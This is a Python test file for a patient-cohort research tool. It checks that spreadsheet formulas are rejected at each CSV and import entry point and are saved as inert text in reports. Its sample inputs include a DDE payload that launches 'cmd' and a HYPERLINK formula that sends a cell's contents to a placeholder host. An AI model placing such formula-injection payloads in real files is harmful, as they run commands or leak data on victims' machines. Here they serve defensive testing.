"""Text that a spreadsheet would run comes in by no door; what is written reads back the same."""

import csv
import io

import pandas as pd
import pytest

from cystgrid.cohort.cells import inert, text_fault
from cystgrid.cohort.classes import CohortSettings
from cystgrid.cohort.importing import cell_fault
from cystgrid.cohort.manifest import Patient, read_manifest
from cystgrid.errors import CystgridError
from cystgrid.evaluation.checking import COLUMNS
from cystgrid.evaluation.patients import read_patients
from cystgrid.evaluation.predictions import check_predictions, read_predictions, write_predictions
from cystgrid.outputs.report.model import table_of

FORMULAS = (
    "=1+1", '=HYPERLINK("http://x.example/"&A1)', "+49", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0",
    "\t=1", "\r=1", " =1", "＝1", "＋1", "＠a",  # noqa: RUF001
)  # fmt: skip
NAMES = ("P001", "a=b", "1-2", "-1", "-", "x+y", "Zoë", "'quoted'")
PREDICTIONS = (*COLUMNS, "p_low", "p_high")


def written(path, row):
    """A table of one row, by the names of its columns."""
    with path.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream, lineterminator="\n").writerows([row.keys(), row.values()])
    return path


def manifest(folder, cell):
    row = {"patient": cell, "label": "low", "t1": "", "t2": "", "roi": ""}
    return read_manifest(written(folder / "cohort.csv", row))


def predictions(folder, **cells):
    row = dict(zip(PREDICTIONS, ("m", "early", "0", "p", "c", "low", "low", "1", "0"), strict=True))
    return read_predictions(written(folder / "predictions.csv", {**row, **cells}))


def patients(folder, **cells):
    row = {"patient": "p", "center": "c", "sex": "F", **cells}
    return read_patients(written(folder / "patients.csv", row))


def imported(cell):
    if fault := cell_fault(cell):
        raise CystgridError("id", got=cell, expected="an id", do=fault)


DOORS = {
    "cohort.csv": manifest,
    "an import": lambda folder, cell: imported(cell),
    "Python, --patient": lambda folder, cell: Patient(cell),
    "a class of the study": lambda folder, cell: CohortSettings.parse(
        {"classes": ["low", cell]}, "study"
    ),
    "predictions of others: model": lambda folder, cell: predictions(folder, model=cell),
    "predictions of others: patient": lambda folder, cell: predictions(folder, patient=cell),
    "predictions of others: center": lambda folder, cell: predictions(folder, center=cell),
    "predictions of others: fold": lambda folder, cell: predictions(folder, outer_fold=cell),
    "patients.csv: center": lambda folder, cell: patients(folder, center=cell),
    "patients.csv: patient": lambda folder, cell: patients(folder, patient=cell),
}


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
@pytest.mark.parametrize("door", DOORS)
def test_a_formula_is_refused_at_every_door(tmp_path, door, cell):
    if door.startswith(("predictions", "patients")) and cell != cell.strip():
        cell = cell.strip()  # these readers strip cells before they look at them
    with pytest.raises(CystgridError):
        DOORS[door](tmp_path, cell)


@pytest.mark.parametrize("door", DOORS)
def test_an_ordinary_name_comes_in(tmp_path, door):
    """Control."""
    DOORS[door](tmp_path, "P001")


@pytest.mark.parametrize("name", NAMES)
def test_what_came_in_reads_back_the_same(tmp_path, name):
    (patient,) = manifest(tmp_path, name).patients
    assert patient.patient == name
    frame = pd.DataFrame(
        [["m", "early", 0, name, "c", "low", "low", 1.0, 0.0]],
        columns=PREDICTIONS,
    )
    checked = check_predictions(frame, ("low", "high"))
    write_predictions(checked.frame.drop(columns="repeat"), ("low", "high"), tmp_path / "own.csv")
    assert list(read_predictions(tmp_path / "own.csv").frame["patient"]) == [name]


def test_tables_of_the_report_are_saved_with_formulas_inert_and_numbers_as_they_are():
    figures = ("-0.12", "-0.12 (-0.30 to 0.06)", "+3", "−2.5", "0.8", "-")  # noqa: RUF001
    texts = [text for text in FORMULAS if text.isprintable() and text != "+49"]  # a number
    rows = [(*pair,) for pair in zip(figures, texts, strict=False)]
    table = table_of("t", "T", ("figure", "text"), rows, "somewhere")
    found = list(csv.reader(io.StringIO(table.csv)))[1:]
    assert [row[0] for row in found] == list(figures)
    assert [row[1] for row in found] == [f"'{text}" for text in texts[: len(rows)]]
    assert all(text_fault(inert(text)) is None for text in texts)
